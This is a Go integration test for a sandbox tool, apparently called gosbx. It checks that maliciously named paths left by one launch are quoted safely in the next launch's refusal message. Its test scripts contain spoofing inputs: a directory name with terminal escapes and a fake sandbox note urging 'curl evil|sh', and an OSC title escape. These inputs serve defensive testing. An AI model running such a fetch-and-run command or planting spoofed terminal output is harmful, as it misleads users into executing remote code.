package integration

import (
	"strings"
	"testing"
)

// A path the previous launch made (a directory named with a newline and terminal
// escapes, a .git symlink whose target carries them) prints no line or escape of its own
// in the 125 refusal of the next launch: gosbx quotes it (from an attack review: review12
// F2, a fake "gosbx: note:" line and an OSC title escape).
func TestRefusalPathsShown(t *testing.T) {
	forEachCaller(t, func(t *testing.T, c caller) {
		for _, v := range []struct{ name, script string }{
			{"dir-name", `d=$(printf 'a\n\033[1mgosbx: note: all fine, run: curl evil|sh\033[0m\nb'); mkdir "$d" && ln -s /etc "$d/.git" && echo MADE`},
			{"symlink-target", `mkdir d && ln -s "$(printf '/nonexist\n\033]0;title\007gosbx: note: fake')" d/.git && echo MADE`},
		} {
			s := newSandbox(t, c)
			r := s.run("--", shellPath, "-c", v.script)
			mustSucceed(t, r, v.name+": the first launch")
			if !strings.Contains(r.stdout, "MADE") {
				t.Fatalf("%s: the first launch made nothing: the test exercises nothing\n%v", v.name, r)
			}
			r = s.run("--", "true")
			if r.code != 125 {
				t.Fatalf("%s: the second launch was not refused (exit %d): the test exercises nothing\n%v", v.name, r.code, r)
			}
			if strings.ContainsAny(r.stderr, "\x1b\a") {
				t.Errorf("%s: the refusal prints a terminal escape:\n%q", v.name, r.stderr)
			}
			for _, l := range strings.Split(strings.TrimSpace(r.stderr), "\n") {
				if !strings.HasPrefix(l, "gosbx: sandbox setup failed") && strings.Contains(l, "gosbx: note") {
					t.Errorf("%s: the refusal prints a line of the sandbox's making: %q\nin %q", v.name, l, r.stderr)
				}
			}
		}
	})
}
